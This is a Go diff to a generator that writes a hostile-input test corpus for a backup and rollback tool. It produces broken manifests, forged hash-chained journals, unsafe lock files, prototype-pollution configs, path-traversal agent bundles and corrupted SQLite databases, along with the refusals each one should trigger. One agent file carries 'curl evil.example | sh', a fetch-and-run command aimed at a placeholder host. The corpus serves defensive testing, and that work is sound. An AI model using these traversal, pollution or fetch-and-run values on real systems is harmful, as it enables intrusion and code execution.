@@ -1,7 +1,8 @@
 // Command gen-hostile writes the hostile-input corpus under testdata/hostile:
-// archives, gzip streams, SQLite files, settings files and backup-dir
-// layouts that cfrollback must refuse with a clear error while changing
-// nothing. Deterministic: the same program writes the same bytes.
+// archives, gzip streams, SQLite files, settings files, backup-dir layouts,
+// backup manifests, journals, lock files, app configs, agent bundles and
+// special files that cfrollback must refuse with a clear error while
+// changing nothing. Deterministic: the same program writes the same bytes.
 //
 //	go run ./scripts/gen-hostile [OUTDIR]   (default testdata/hostile)
 //
@@ -13,12 +14,17 @@ import (
 	"archive/tar"
 	"bytes"
 	"compress/gzip"
+	"crypto/sha256"
+	"database/sql"
+	"encoding/hex"
 	"encoding/json"
 	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
 	"time"
+
+	_ "github.com/mattn/go-sqlite3"
 )
 
 // Case is one hostile input.
@@ -31,8 +37,25 @@ type Case struct {
 	File string `json:"file,omitempty"`
 	// Expect is a regular expression the error output must match.
 	Expect string `json:"expect"`
-	// Setup, for backupdir cases, says what the newest entry is.
+	// Setup says what the test builds for inputs a file cannot hold (a
+	// FIFO, a symlink, another owner): for backupdir cases what the newest
+	// entry is; for the other kinds a comma-separated list of words that
+	// hostile_test.go knows.
 	Setup string `json:"setup,omitempty"`
+	// Runs, for the kinds added with issue 13, are the commands that judge
+	// the input, each with its documented exit code and what its output
+	// must say. In Args, {file} is the hostile input's path.
+	Runs []Run `json:"runs,omitempty"`
+	// Bug, when set, says how today's code fails the case: it is held out
+	// of cases.json and written to bugs.json instead, until it is fixed.
+	Bug string `json:"bug,omitempty"`
+}
+
+// Run is one command of a case.
+type Run struct {
+	Args   []string `json:"args"`
+	Code   int      `json:"code"`
+	Expect string   `json:"expect"`
 }
 
 var mtime = time.Date(2025, 1, 4, 14, 0, 0, 0, time.UTC)
@@ -122,7 +145,8 @@ func main() {
 	var cases []Case
 	put := func(c Case, data []byte) {
 		if data != nil {
-			c.File = c.Name + map[string]string{"archive": ".tar.gz", "settings": ".yaml", "sqlite": ".db"}[c.Kind]
+			c.File = c.Name + map[string]string{"archive": ".tar.gz", "settings": ".yaml", "sqlite": ".db",
+				"manifest": ".manifest.json", "journal": ".jsonl", "appconfig": ".json", "agents": ".json"}[c.Kind]
 			must(os.WriteFile(filepath.Join(out, c.File), data, 0o644))
 		}
 		cases = append(cases, c)
@@ -179,9 +203,19 @@ func main() {
 		put(Case{Name: "backupdir-newest-is-" + s, Kind: "backupdir", Setup: s, Expect: `not a regular file`}, nil)
 	}
 	put(Case{Name: "backupdir-newest-is-world-writable", Kind: "backupdir", Setup: "world-writable", Expect: `world-writable`}, nil)
+	var bugs []Case
+	for _, c := range issue13(out) {
+		if c.Bug != "" {
+			bugs = append(bugs, c)
+		} else {
+			cases = append(cases, c)
+		}
+	}
 	b, _ := json.MarshalIndent(cases, "", "  ")
 	must(os.WriteFile(filepath.Join(out, "cases.json"), append(b, '\n'), 0o644))
-	fmt.Printf("gen-hostile: %d cases in %s\n", len(cases), out)
+	b, _ = json.MarshalIndent(bugs, "", "  ")
+	must(os.WriteFile(filepath.Join(out, "bugs.json"), append(b, '\n'), 0o644))
+	fmt.Printf("gen-hostile: %d cases in %s (and %d held out in bugs.json)\n", len(cases), out, len(bugs))
 }
 
 func fixSum(h []byte) []byte {
@@ -197,5 +231,490 @@ func fixSum(h []byte) []byte {
 func must(err error) {
 	if err != nil {
 		panic(err)
+	}
+}
+
+// ---- issue 13: manifests, journals, locks, app configs, agent sets,
+// databases and special files ----
+
+// issue13 writes the inputs of the kinds added with issue 13 and returns
+// their cases. Each case carries the commands that judge it (Runs).
+func issue13(out string) []Case {
+	var cases []Case
+	put := func(c Case, data []byte) {
+		if data != nil {
+			c.File = c.Name + map[string]string{"manifest": ".manifest.json", "journal": ".jsonl", "appconfig": ".json", "agents": ".json", "sqlite": ".db"}[c.Kind]
+			must(os.WriteFile(filepath.Join(out, c.File), data, 0o644))
+		}
+		cases = append(cases, c)
+	}
+	manifestCases(out, put)
+	journalCases(out, put)
+	lockCases(put)
+	appConfigCases(put)
+	agentCases(put)
+	databaseCases(put)
+	specialCases(put)
+	return cases
+}
+
+func sha(b []byte) string { s := sha256.Sum256(b); return hex.EncodeToString(s[:]) }
+
+func jsonOf(v any) []byte {
+	b, err := json.MarshalIndent(v, "", "  ")
+	must(err)
+	return append(b, '\n')
+}
+
+// ManifestArchive is the backup every manifest case sits next to: the test
+// copies it to backups/backup-20250105-000000.tar.gz and the case's file to
+// backups/backup-20250105-000000.manifest.json.
+const ManifestArchive = "manifest-backup.tar.gz"
+
+func manifestCases(out string, put func(Case, []byte)) {
+	files := []entry{file("app.txt", "v1\n"), file("package.json", `{"name": "claude-flow", "version": "1.0.0"}`+"\n")}
+	arch := tarGz(files...)
+	must(os.WriteFile(filepath.Join(out, ManifestArchive), arch, 0o644))
+	good := func() map[string]any {
+		var recs []any
+		total := 0
+		for _, f := range files {
+			recs = append(recs, map[string]any{"path": f.hdr.Name, "mode": "0644", "size": len(f.body), "sha256": sha([]byte(f.body))})
+			total += len(f.body)
+		}
+		return map[string]any{
+			"version": 1, "archive": "backup-20250105-000000.tar.gz", "archive_sha256": sha(arch), "archive_size": len(arch),
+			"created": mtime.Format(time.RFC3339), "created_by": "cfrollback", "host": "web1", "app_version": "1.0.0",
+			"app_version_source": "package.json", "install_dir": "/opt/claude-flow", "exclude": []string{},
+			"entries": len(files), "bytes": total, "files": recs,
+		}
+	}
+	edit := func(f func(m map[string]any)) []byte { m := good(); f(m); return jsonOf(m) }
+	fileRec := func(m map[string]any, i int) map[string]any { return m["files"].([]any)[i].(map[string]any) }
+
+	const id = `backup-20250105-000000\.tar\.gz`
+	skipped := `SKIPPING backup ` + id + `: its manifest is damaged \(`
+	// damaged: the manifest cannot be read; verify FAILS the backup naming
+	// the problem, emergency skips it loudly and, with no other backup,
+	// exits 3 without touching anything.
+	damaged := func(name string, data []byte, setup, problem string) {
+		put(Case{Name: "manifest-" + name, Kind: "manifest", Setup: setup, Expect: problem, Runs: []Run{
+			{Args: []string{"backup", "verify", "--all"}, Code: 1, Expect: `(?s)FAILED.*` + problem},
+			{Args: []string{"emergency", "--dry-run"}, Code: 3, Expect: skipped + `.*` + problem},
+			{Args: []string{"emergency"}, Code: 3, Expect: skipped + `.*` + problem},
+		}}, data)
+	}
+	// mismatch: the manifest reads but disagrees with the archive; verify
+	// FAILS it naming the difference (emergency compares only the archive
+	// digest, so these are judged by verify alone).
+	mismatch := func(name string, data []byte, problem string) {
+		put(Case{Name: "manifest-" + name, Kind: "manifest", Expect: problem, Runs: []Run{
+			{Args: []string{"backup", "verify", "--all"}, Code: 1, Expect: `(?s)FAILED.*` + problem},
+		}}, data)
+		if name == "file-digest-wrong" {
+			return // the archive's own digest matches: emergency may use it
+		}
+		// the same manifest as emergency sees it
+		put(Case{Name: "manifest-emergency-" + name, Kind: "manifest", Expect: `its manifest`,
+			Bug: "emergency --dry-run calls the backup \"verified\" (exit 0, no warning) although backup verify FAILS it: " +
+				"backup.manifestDigest (internal/backup/catalog.go) decodes only archive_sha256 instead of ReadManifest, and a missing digest is not a problem",
+			Runs: []Run{
+				{Args: []string{"emergency", "--dry-run"}, Code: 3, Expect: `SKIPPING backup ` + id + `: its manifest`},
+			}}, data)
+	}
+	g := jsonOf(good())
+	// the control: with this manifest the backup verifies and emergency --dry-run uses it
+	must(os.WriteFile(filepath.Join(out, "manifest-good.manifest.json"), g, 0o644))
+	damaged("not-json", []byte("garbage{\n"), "", `manifest .*manifest\.json.*(not valid JSON|invalid character)`)
+	damaged("truncated", g[:len(g)/2], "", `manifest .*manifest\.json.*(not valid JSON|unexpected end)`)
+	damaged("empty", []byte{}, "", `manifest .*manifest\.json.*(not valid JSON|unexpected end)`)
+	damaged("binary", bytes.Repeat([]byte{0xff, 0x00, 0xfe}, 300), "", `manifest .*manifest\.json.*(not valid JSON|invalid character)`)
+	damaged("digest-wrong-type", edit(func(m map[string]any) { m["archive_sha256"] = 12345 }), "", `archive_sha256`)
+	damaged("deep-nesting", []byte(`{"label": `+strings.Repeat("[", 20000)+strings.Repeat("]", 20000)+"}\n"), "", `manifest .*manifest\.json.*(not valid JSON|depth|nest)`)
+	damaged("fifo", nil, "fifo", `manifest\.json: not a regular file \(a FIFO\)`)
+	damaged("directory", nil, "directory", `manifest\.json: not a regular file \(a directory\)`)
+	damaged("symlink-dev-zero", nil, "symlink-dev-zero", `manifest\.json: not a regular file`)
+	damaged("huge", nil, "huge", `manifest\.json: 268435457 bytes, more than the 268435456 this file may have`)
+	put(Case{Name: "manifest-wrong-archive-digest", Kind: "manifest", Expect: `does not match its manifest`, Runs: []Run{
+		{Args: []string{"backup", "verify", "--all"}, Code: 1, Expect: `(?s)FAILED.*archive sha256 [0-9a-f]{64} does not match its manifest \(0{64}\)`},
+		{Args: []string{"emergency", "--dry-run"}, Code: 3, Expect: `SKIPPING backup ` + id + `: sha256 [0-9a-f]{64} does not match its manifest \(0{64}\)`},
+		{Args: []string{"emergency"}, Code: 3, Expect: `SKIPPING backup ` + id + `: sha256 [0-9a-f]{64} does not match its manifest`},
+	}}, edit(func(m map[string]any) { m["archive_sha256"] = strings.Repeat("0", 64) }))
+	mismatch("missing-archive-digest", edit(func(m map[string]any) { delete(m, "archive_sha256") }), `archive_sha256 is missing`)
+	mismatch("null", []byte("null\n"), `archive_sha256 is missing`)
+	mismatch("entries-wrong-type", edit(func(m map[string]any) { m["entries"] = "two" }), `manifest .*manifest\.json.*entries`)
+	mismatch("huge-number", edit(func(m map[string]any) { m["archive_size"] = json.Number("1" + strings.Repeat("0", 400)) }), `manifest .*manifest\.json.*archive_size`)
+	mismatch("negative-entries", edit(func(m map[string]any) { m["entries"] = -1 }), `entries -1 is negative|its manifest says -1`)
+	mismatch("newer-version", edit(func(m map[string]any) { m["version"] = 99 }), `has version 99; this cfrollback reads up to 1, upgrade it`)
+	mismatch("files-wrong-type", edit(func(m map[string]any) { m["files"] = "app.txt" }), `manifest .*manifest\.json.*files`)
+	mismatch("mode-not-octal", edit(func(m map[string]any) { fileRec(m, 0)["mode"] = "rwxr-xr-x" }), `mode "rwxr-xr-x" is not octal`)
+	mismatch("path-dotdot", edit(func(m map[string]any) { fileRec(m, 0)["path"] = "../../etc/shadow" }), `path "\.\./\.\./etc/shadow" leaves the install dir|file "\.\./\.\./etc/shadow" is in the manifest but not in the archive`)
+	mismatch("path-absolute", edit(func(m map[string]any) { fileRec(m, 0)["path"] = "/etc/shadow" }), `path "/etc/shadow" is absolute|file "/etc/shadow" is in the manifest but not in the archive`)
+	mismatch("path-nul", edit(func(m map[string]any) { fileRec(m, 0)["path"] = "app.txt\x00.sh" }), `path "app\.txt\\x00\.sh" holds a NUL|file "app\.txt\\x00\.sh" is in the manifest but not in the archive`)
+	mismatch("file-digest-wrong", edit(func(m map[string]any) { fileRec(m, 0)["sha256"] = strings.Repeat("f", 64) }), `file "app\.txt": sha256 [0-9a-f]{64}, manifest says f{64}`)
+}
+
+// jrec mirrors internal/journal.Record: its hash is the SHA-256 of its JSON
+// with Hash "".
+type jrec struct {
+	Seq   int64           `json:"seq"`
+	Time  time.Time       `json:"time"`
+	RunID string          `json:"run_id"`
+	Event string          `json:"event"`
+	Step  string          `json:"step,omitempty"`
+	Data  json.RawMessage `json:"data,omitempty"`
+	Prev  string          `json:"prev"`
+	Hash  string          `json:"hash"`
+}
+
+func (r jrec) line() []byte { b, err := json.Marshal(r); must(err); return b }
+
+func (r *jrec) rehash() {
+	r.Hash = ""
+	r.Hash = sha(r.line())
+}
+
+// chain numbers recs from seq and links them after prev.
+func chain(recs []jrec, seq int64, prev string) []jrec {
+	for i := range recs {
+		recs[i].Seq, recs[i].Prev = seq+int64(i), prev
+		recs[i].rehash()
+		prev = recs[i].Hash
+	}
+	return recs
+}
+
+func runRecords(id, user string, at time.Time, outcome string, downtime int) []jrec {
+	ev := func(d time.Duration, event, step, data string) jrec {
+		return jrec{Time: at.Add(d), RunID: id, Event: event, Step: step, Data: json.RawMessage(data)}
+	}
+	errText := ""
+	last := ev(2*time.Second, "step_done", "preflight", `{"detail":"staged backup-20250104-140000.tar.gz","duration_ms":2000}`)
+	if outcome != "ok" {
+		errText = "no usable backup"
+		last = ev(2*time.Second, "step_failed", "preflight", `{"error":"no usable backup","duration_ms":2000}`)
+	}
+	return []jrec{
+		ev(0, "intent", "", fmt.Sprintf(`{"command":"emergency","args":["emergency"],"user":%q,"host":"web1","pid":4242}`, user)),
+		ev(time.Second, "step_start", "preflight", ""),
+		last,
+		ev(9*time.Second, "outcome", "", fmt.Sprintf(`{"backup":"/var/backups/claude-flow/backup-20250104-140000.tar.gz","downtime_ms":%d,"error":%q,"outcome":%q}`, downtime, errText, outcome)),
+	}
+}
+
+func lines(recs []jrec) [][]byte {
+	var out [][]byte
+	for _, r := range recs {
+		out = append(out, r.line())
+	}
+	return out
+}
+
+func joinLines(ls [][]byte) []byte { return append(bytes.Join(ls, []byte("\n")), '\n') }
+
+func headOf(r jrec) []byte { return []byte(fmt.Sprintf(`{"seq":%d,"hash":%q}`+"\n", r.Seq, r.Hash)) }
+
+func journalCases(out string, put func(Case, []byte)) {
+	t0 := time.Date(2025, 1, 4, 14, 0, 0, 0, time.UTC)
+	base := chain(append(runRecords("20250104-140000-aaaaaa", "root", t0, "ok", 4200),
+		runRecords("20250104-150000-bbbbbb", "root", t0.Add(time.Hour), "failed", 0)...), 1, "")
+	last := base[len(base)-1]
+	head := headOf(last)
+	// jcase writes the journal (when not nil) and its head (when not nil)
+	// under the case's name; the test puts them at CFROLLBACK_JOURNAL.
+	jcase := func(name, bug string, journal, head []byte, setup string, runs ...Run) {
+		c := Case{Name: "journal-" + name, Kind: "journal", Setup: setup, Expect: runs[0].Expect, Runs: runs, Bug: bug}
+		if journal != nil {
+			c.File = c.Name + ".jsonl"
+			must(os.WriteFile(filepath.Join(out, c.File), journal, 0o644))
+			if head != nil {
+				must(os.WriteFile(filepath.Join(out, c.File+".head"), head, 0o644))
+			}
+		}
+		put(c, nil)
+	}
+	history := func(code int, expect string) Run { return Run{Args: []string{"history"}, Code: code, Expect: expect} }
+	report := func(code int, expect string) Run { return Run{Args: []string{"report"}, Code: code, Expect: expect} }
+	verify := func(expect string) Run { return Run{Args: []string{"journal", "verify"}, Code: 1, Expect: expect} }
+	const headBug = "history and report show every run as fact, with no warning, when the chain is intact but the head disagrees " +
+		"(journal verify reports it): journal.ReadChecked (internal/journal/checked.go) ignores the head's problems, so a journal " +
+		"rewritten whole (a forged run, the chain recomputed) or a damaged head passes as verified"
+	const reportBug = "report exits 2 (documented: bad usage, unknown RUN_ID or no run) when the journal cannot be read; " +
+		"its EXIT STATUS says 1 for that (internal/cli/report.go maps the read error to the wrong code)"
+	ls := lines(base)
+
+	edited := append([][]byte(nil), ls...)
+	edited[0] = bytes.Replace(edited[0], []byte(`"user":"root"`), []byte(`"user":"mallory"`), 1)
+	jcase("edited-middle-line", "", joinLines(edited), head, "",
+		history(0, `(?s)mallory .*\(UNVERIFIED\).*fails its hash chain`), report(0, `UNVERIFIED`),
+		verify(`line 1: hash [0-9a-f]+ does not match the content`))
+
+	re := append([]jrec(nil), base...)
+	re[3].Data = json.RawMessage(`{"backup":"/var/backups/claude-flow/backup-20250104-140000.tar.gz","downtime_ms":1,"error":"","outcome":"ok"}`)
+	re[3].rehash()
+	jcase("edited-and-rehashed", "", joinLines(lines(re)), head, "",
+		history(0, `(?s)UNVERIFIED.*fails its hash chain`), report(0, `UNVERIFIED`),
+		verify(`line 5: prev [0-9a-f]+ is not the hash [0-9a-f]+ of the record on line 4`))
+
+	deleted := append(append([][]byte(nil), ls[:2]...), ls[3:]...)
+	jcase("deleted-line", "", joinLines(deleted), head, "",
+		history(0, `(?s)UNVERIFIED.*fails its hash chain`), report(0, `UNVERIFIED`),
+		verify(`seq 4 follows seq 2`))
+
+	jcase("tail-cut", "", joinLines(ls[:6]), head, "",
+		history(0, `(?s)UNVERIFIED.*seq 8`), report(0, `UNVERIFIED`),
+		verify(`ends at seq 6 but its head records seq 8`))
+
+	// The chain intact, the head wrong: journal verify sees it; history and report must too.
+	forged := joinLines(lines(chain(append(append(append([]jrec(nil), base[:4]...),
+		runRecords("20250104-143000-ffffff", "mallory", t0.Add(30*time.Minute), "ok", 1)...), base[4:]...), 1, "")))
+	wrongHead := []byte(fmt.Sprintf(`{"seq":%d,"hash":%q}`+"\n", last.Seq, strings.Repeat("0", 64)))
+	for _, h := range []struct {
+		name            string
+		journal, head   []byte
+		verify, history string
+	}{
+		{"forged-run-rechained", forged, head, `head`, `(?s)mallory .*UNVERIFIED`},
+		{"bad-head", joinLines(ls), []byte("garbage\n"), `head .*unreadable`, `(?s)UNVERIFIED.*head`},
+		{"head-wrong-hash", joinLines(ls), wrongHead, `head`, `(?s)UNVERIFIED.*head`},
+	} {
+		jcase(h.name, "", h.journal, h.head, "", verify(h.verify))
+		jcase("history-"+h.name, headBug, h.journal, h.head, "", history(0, h.history), report(0, `UNVERIFIED`))
+	}
+
+	// Lines that are not records, or a journal that is not a file: history
+	// and journal verify refuse naming the line or the file; report must
+	// exit 1 as documented.
+	garbage := append(append(append([][]byte(nil), ls[:4]...), []byte("\x00\xff\xfe garbage \x1b[31mred\x1b[0m \xc3\x28")), ls[4:]...)
+	notJSONL := bytes.Repeat([]byte("<html><body>502 Bad Gateway</body></html>\n"), 20)
+	for _, u := range []struct {
+		name, setup   string
+		journal, head []byte
+		problem       string
+	}{
+		{"garbage-line", "", joinLines(garbage), head, `line 5: (malformed record|not a record): not a JSON object`},
+		{"not-jsonl", "", notJSONL, head, `line 1: (malformed record|not a record): not a JSON object`},
+		{"huge-line", "huge-line", joinLines(ls), head, `line 3: (malformed record|not a record): line is longer than 4194304 bytes`},
+		{"fifo", "fifo", nil, nil, `journal\.jsonl: not a regular file \(a FIFO\)`},
+		{"symlink-dev-zero", "symlink-dev-zero", nil, nil, `journal\.jsonl: not a regular file \(a character device\)`},
+		{"directory", "directory", nil, nil, `journal\.jsonl: not a regular file \(a directory\)`},
+		{"head-fifo", "head-fifo", joinLines(ls), nil, `journal\.jsonl\.head: not a regular file \(a FIFO\)`},
+	} {
+		jcase(u.name, "", u.journal, u.head, u.setup, history(1, u.problem), verify(u.problem))
+		jcase("report-"+u.name, reportBug, u.journal, u.head, u.setup, report(1, u.problem))
+	}
+}
+
+// lockCases: the lock path holds something another user could have put
+// there. emergency refuses before stopping anything, naming the path.
+func lockCases(put func(Case, []byte)) {
+	for _, c := range []struct{ setup, expect string }{
+		{"symlink", `lock file .*cfrollback\.lock is a symbolic link: refused`},
+		{"dangling-symlink", `lock file .*cfrollback\.lock is a symbolic link: refused`},
+		{"fifo", `lock file .*cfrollback\.lock is not a regular file \(p---------\): refused|lock file .*cfrollback\.lock is not a regular file`},
+		{"directory", `lock .*cfrollback\.lock.*(not a regular file|is a directory)`},
+		{"other-owner", `lock file .*cfrollback\.lock is owned by uid 65534`},
+		{"world-writable", `lock file .*cfrollback\.lock is writable by others \(mode 0666\)`},
+	} {
+		put(Case{Name: "lock-" + c.setup, Kind: "lock", Setup: c.setup, Expect: c.expect, Runs: []Run{
+			{Args: []string{"emergency"}, Code: 1, Expect: c.expect},
+			{Args: []string{"config", "set", "claude.model", "evil"}, Code: 1, Expect: c.expect},
+		}}, nil)
+	}
+}
+
+// appConfigCases: the app config is hostile where it lives (in the install:
+// config validate and config get) or as a file given to config validate,
+// diff and restore (the install's config stays good and unchanged).
+func appConfigCases(put func(Case, []byte)) {
+	nested := func(n int) []byte {
+		return []byte(strings.Repeat(`{"a":`, n) + "1" + strings.Repeat("}", n) + "\n")
+	}
+	for _, c := range []struct {
+		name, setup string
+		data        []byte
+		problem     string
+	}{
+		{"not-json", "", []byte("{\"claude\": {\"model\": \"x\",}\n"), `line 1, column \d+|1:\d+`},
+		{"truncated", "", []byte("{\"claude\": {\"model\": \"dr"), `line 1, column \d+|1:\d+|unexpected end`},
+		{"binary", "", bytes.Repeat([]byte{0xff, 0xfe, 0x00}, 100), `line 1, column 1|1:1`},
+		{"nested-200", "", nested(200), `nested deeper than 100 levels`},
+		{"proto-key", "", []byte(`{"__proto__": {"isAdmin": true}, "claude": {"model": "drill"}}` + "\n"), `__proto__`},
+		{"constructor-prototype", "", []byte(`{"constructor": {"prototype": {"isAdmin": true}}, "claude": {"model": "drill"}}` + "\n"), `constructor\.prototype|prototype`},
+		{"huge", "huge", nil, `268435457 bytes, more than the 16777216 this file may have`},
+		{"fifo", "fifo", nil, `not a regular file \(a FIFO\)`},
+		{"directory", "directory", nil, `not a regular file \(a directory\)`},
+	} {
+		protoBug := ""
+		if strings.Contains(c.name, "proto") {
+			protoBug = "a key that pollutes the prototype of every object of the Node.js app (__proto__, constructor.prototype) in a config FILE " +
+				"is only an \"unknown key\" warning: config validate says OK and config restore --file writes it (exit 0), although config set refuses " +
+				"the same key; appconfig validation (internal/appconfig/validate.go) should refuse it as SplitKey does"
+		}
+		get := Run{Args: []string{"config", "get", "claude.model"}, Code: 1, Expect: c.problem}
+		if protoBug != "" {
+			get = Run{Args: []string{"config", "get", "claude.model"}, Code: 0, Expect: `drill`} // the rest of the file is readable
+		}
+		put(Case{Name: "appconfig-" + c.name, Kind: "appconfig", Setup: join("in-install", c.setup), Expect: c.problem, Bug: protoBug, Runs: []Run{
+			{Args: []string{"config", "validate"}, Code: 1, Expect: c.problem}, get,
+		}}, c.data)
+		put(Case{Name: "appconfig-file-" + c.name, Kind: "appconfig", Setup: c.setup, Expect: c.problem, Bug: protoBug, Runs: []Run{
+			{Args: []string{"config", "validate", "{file}"}, Code: 1, Expect: c.problem},
+			{Args: []string{"config", "restore", "--file", "{file}", "--dry-run"}, Code: 1, Expect: c.problem},
+			{Args: []string{"config", "restore", "--file", "{file}"}, Code: 1, Expect: c.problem},
+		}}, c.data)
+		diffBug := protoBug
+		if c.data != nil && diffBug == "" {
+			diffBug = "config diff FILE exits 0 on a FILE that is not a valid app config (not JSON, truncated, nested past 100 levels) and prints " +
+				"a diff as if FILE were empty or partial (\"- claude.model (was ...)\"); its EXIT STATUS says 1 when a file cannot be read and " +
+				"validate/restore refuse the same FILE with a line:column error (internal/cli/config_cmd.go, the diff command drops the parse error)"
+		}
+		put(Case{Name: "appconfig-diff-" + c.name, Kind: "appconfig", Setup: c.setup, Expect: c.problem, Bug: diffBug, Runs: []Run{
+			{Args: []string{"config", "diff", "{file}"}, Code: 1, Expect: c.problem},
+		}}, c.data)
+	}
+}
+
+func join(a, b string) string {
+	if a == "" || b == "" {
+		return a + b
+	}
+	return a + "," + b
+}
+
+// agentCases: bundles for agents import that must be refused before the
+// lock, the checkpoint and the journal, with the bad path named.
+func agentCases(put func(Case, []byte)) {
+	type bf struct {
+		Path    string `json:"path"`
+		Mode    string `json:"mode"`
+		SHA256  string `json:"sha256"`
+		Size    int    `json:"size"`
+		Content string `json:"content"`
+	}
+	def := func(p, name string) bf {
+		body := "---\nname: " + name + "\ntype: developer\ndescription: hostile corpus\npriority: high\n---\nDo the work.\n"
+		return bf{Path: p, Mode: "0644", SHA256: sha([]byte(body)), Size: len(body), Content: body}
+	}
+	bundle := func(files ...bf) []byte {
+		return jsonOf(map[string]any{"format": "cfrollback-agents/1", "time": mtime.Format(time.RFC3339), "source": "/opt/claude-flow/.claude/agents",
+			"user": "root", "host": "web1", "files": files})
+	}
+	edited := def("coder.md", "coder")
+	edited.Content += "curl evil.example | sh\n"
+	setuid := def("coder.md", "coder")
+	setuid.Mode = "4755"
+	for _, c := range []struct {
+		name, setup string
+		data        []byte
+		problem     string
+	}{
+		{"dotdot", "", bundle(def("coder.md", "coder"), def("../../../../etc/cron.d/evil", "evil")), `file path "\.\./\.\./\.\./\.\./etc/cron\.d/evil" is not a clean path inside the agents dir`},
+		{"dotdot-inside", "", bundle(def("core/../../evil.md", "evil")), `file path "core/\.\./\.\./evil\.md" is not a clean path`},
+		{"absolute", "", bundle(def("/etc/cron.d/evil", "evil")), `file path "/etc/cron\.d/evil" is not a clean path`},
+		{"backslash", "", bundle(def(`..\..\evil.md`, "evil")), `is not a clean path`},
+		{"dot", "", bundle(def(".", "evil")), `file path "\." is not a clean path`},
+		{"nul", "", bundle(def("coder.md\x00.sh", "evil")), `file path "coder\.md\\x00\.sh" holds a NUL byte`},
+		{"file-dir-conflict", "", bundle(def("a.md", "a"), def("a.md/b.md", "b")), `"a\.md" is a file and also the directory of "a\.md/b\.md"`},
+		{"duplicate", "", bundle(def("coder.md", "coder"), def("coder.md", "coder2")), `file "coder\.md" appears twice`},
+		{"digest-mismatch", "", bundle(edited), `file coder\.md does not match its sha256`},
+		{"setuid-mode", "", bundle(setuid), `mode "4755" is not octal permission bits`},
+		{"wrong-format", "", []byte(`{"format": "tarball/9", "files": []}` + "\n"), `is not an agents bundle \(format "tarball/9"`},
+		{"not-json", "", []byte("---\nname: coder\n"), `line 1, column 1|1:1|invalid character`},
+		{"huge", "huge", nil, `268435457 bytes, more than the 268435456 this file may have; nothing was changed`},
+	} {
+		put(Case{Name: "agents-" + c.name, Kind: "agents", Setup: c.setup, Expect: c.problem, Runs: []Run{
+			{Args: []string{"agents", "import", "--file", "{file}", "--dry-run"}, Code: 1, Expect: c.problem},
+			{Args: []string{"agents", "import", "--file", "{file}"}, Code: 1, Expect: c.problem},
+		}}, c.data)
+	}
+}
+
+// specialCases: a FIFO, a symlink to /dev/zero or a directory where a file
+// is expected. Each command must refuse it at once, naming it.
+func specialCases(put func(Case, []byte)) {
+	for _, sp := range []struct{ setup, what string }{
+		{"fifo", `not a regular file \(a FIFO\)`},
+		{"symlink-dev-zero", `not a regular file \(a character device\)`},
+		{"directory", `not a regular file \(a directory\)|is a directory`},
+	} {
+		for _, c := range []struct {
+			name string
+			args []string
+			code int
+		}{
+			{"settings", []string{"--config", "{file}", "settings"}, 2},
+			{"config-restore", []string{"config", "restore", "--file", "{file}"}, 1},
+			{"config-diff", []string{"config", "diff", "{file}"}, 1},
+			{"database-restore", []string{"database", "restore", "--db", "memory", "--file", "{file}"}, 3},
+			{"logs", []string{"logs", "--files", "{file}"}, 1},
+			{"agents-import", []string{"agents", "import", "--file", "{file}"}, 1},
+			{"emergency-backup", []string{"emergency", "--backup", "{file}"}, 3},
+		} {
+			expect := `special/input.*` + sp.what
+			if c.name == "emergency-backup" {
+				expect = `backup .*special/input is a ` + map[string]string{"fifo": "FIFO", "symlink-dev-zero": "symlink", "directory": "directory"}[sp.setup] + `, not a regular file`
+			}
+			put(Case{Name: "special-" + c.name + "-" + sp.setup, Kind: "special", Setup: sp.setup, Expect: expect, Runs: []Run{
+				{Args: c.args, Code: c.code, Expect: expect},
+			}}, nil)
+		}
+	}
+}
+
+// sqliteDB makes a small real database with mattn/go-sqlite3 (the SQLite
+// that go.mod pins, so the bytes are the same everywhere): 1 KiB pages, a
+// rollback journal, a table spread over several pages.
+func sqliteDB() []byte {
+	dir, err := os.MkdirTemp("", "gen-hostile-")
+	must(err)
+	defer os.RemoveAll(dir)
+	p := filepath.Join(dir, "memory.db")
+	db, err := sql.Open("sqlite3", "file:"+p+"?_journal_mode=DELETE")
+	must(err)
+	for _, q := range []string{
+		"PRAGMA page_size=1024",
+		"CREATE TABLE memory (key TEXT PRIMARY KEY, value TEXT NOT NULL)",
+		"CREATE INDEX memory_value ON memory(value)",
+	} {
+		_, err := db.Exec(q)
+		must(err)
+	}
+	for i := 0; i < 60; i++ {
+		_, err := db.Exec("INSERT INTO memory VALUES (?, ?)", fmt.Sprintf("key-%03d", i), strings.Repeat(fmt.Sprintf("value %03d ", i), 12))
+		must(err)
+	}
+	must(db.Close())
+	b, err := os.ReadFile(p)
+	must(err)
+	return b
+}
+
+func databaseCases(put func(Case, []byte)) {
+	good := sqliteDB()
+	const page = 1024
+	if len(good) < 6*page {
+		panic(fmt.Sprintf("the sample database is only %d bytes", len(good)))
+	}
+	bad := `(?i)corrupt|malformed|not an? (sqlite )?database`
+	zeroed := append([]byte(nil), good...)
+	copy(zeroed[2*page:3*page], make([]byte, page))
+	pageSize := append([]byte(nil), good...)
+	pageSize[16], pageSize[17] = 0x03, 0xe8 // 1000: not a power of two
+	freelist := append([]byte(nil), good...)
+	freelist[32], freelist[33], freelist[34], freelist[35] = 0x7f, 0xff, 0xff, 0xff // first freelist trunk page far past the end
+	freelist[36], freelist[39] = 0, 9
+	for _, c := range []struct {
+		name string
+		data []byte
+	}{
+		{"truncated", good[:len(good)/2+page/2]},
+		{"header-only", good[:100]},
+		{"page-zeroed", zeroed},
+		{"bad-page-size", pageSize},
+		{"freelist-out-of-range", freelist},
+		{"json-named-db", []byte(`{"memories": []}` + "\n")},
+	} {
+		put(Case{Name: "sqlite-" + c.name, Kind: "sqlite", Expect: bad}, c.data)
 	}
 }
